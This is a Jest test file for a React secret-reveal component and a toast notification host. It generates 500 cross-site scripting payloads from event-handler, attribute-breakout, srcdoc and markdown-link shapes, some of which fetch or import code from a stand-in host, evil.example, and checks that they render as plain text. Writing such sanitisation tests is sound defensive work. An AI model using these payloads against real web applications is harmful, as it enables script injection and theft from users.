import { afterEach, expect, it } from '@jest/globals';
import { createRef } from 'react';
import { act, cleanup, render } from '@testing-library/react';
import { ToastHost } from '../../../ui/toast/toast-host.tsx';
import { dismissToast, showToast } from '../../../ui/toast/toast-store.ts';
import { RevealedMessage } from './revealed-message.tsx';

const CODES = [
  'alert(1)',
  'javascript:alert(1)',
  'fetch`//evil.example`',
  'import("//evil.example")',
  '{{alert(1)}}',
];
const TAGS = ['img', 'svg', 'iframe', 'script', 'style', 'body', 'details', 'input', 'object', 'math'];
const SHAPES: readonly ((tag: string, code: string) => string)[] = [
  (tag, code) => `<${tag} onerror=${code} src=x>`,
  (tag, code) => `"><${tag} onload="${code}">`,
  (tag, code) => `'><${tag}/onfocus='${code}' autofocus>`,
  (tag, code) => `</pre></div><${tag}>${code}</${tag}>`,
  (tag, code) => `<${tag} href="${code}" xlink:href="${code}">`,
  (tag, code) => `<${tag.toUpperCase()} SrcDoc="&lt;script&gt;${code}&lt;/script&gt;">`,
  (tag, code) => `<!--><${tag} ontoggle=${code} open>-->`,
  (tag, code) => `&lt;${tag} onclick=${code}&gt;`,
  (tag, code) => `\\x3c${tag} style="background:url(${code})">`,
  (tag, code) => `[a](${code}) ![b](${code} "<${tag}>")`,
];
const PAYLOADS = SHAPES.flatMap((shape) => TAGS.flatMap((tag) => CODES.map((code) => shape(tag, code))));

const elementsOf = (root: Element): string =>
  [...root.querySelectorAll('*')].map(({ tagName }) => tagName).join();

afterEach(() => {
  act(() => dismissToast());
  cleanup();
});

it('500 texts that would be code elsewhere are shown as what they are, as a secret', () => {
  expect(PAYLOADS).toHaveLength(500);
  const titleRef = createRef<HTMLHeadingElement>();
  const { container, rerender } = render(<RevealedMessage message="plain" titleRef={titleRef} />);
  const elements = elementsOf(container);
  for (const message of PAYLOADS) {
    rerender(<RevealedMessage message={message} titleRef={titleRef} />);
    expect(container.querySelector('pre')?.textContent).toBe(message);
    expect(elementsOf(container)).toBe(elements);
  }
});

it('and as the text of a toast', () => {
  const { baseElement } = render(<ToastHost />);
  act(() => void showToast({ title: 'plain' }));
  const elements = elementsOf(baseElement);
  for (const title of PAYLOADS) {
    act(() => void showToast({ title }));
    expect(baseElement.textContent).toContain(title);
    expect(elementsOf(baseElement)).toBe(elements);
  }
});
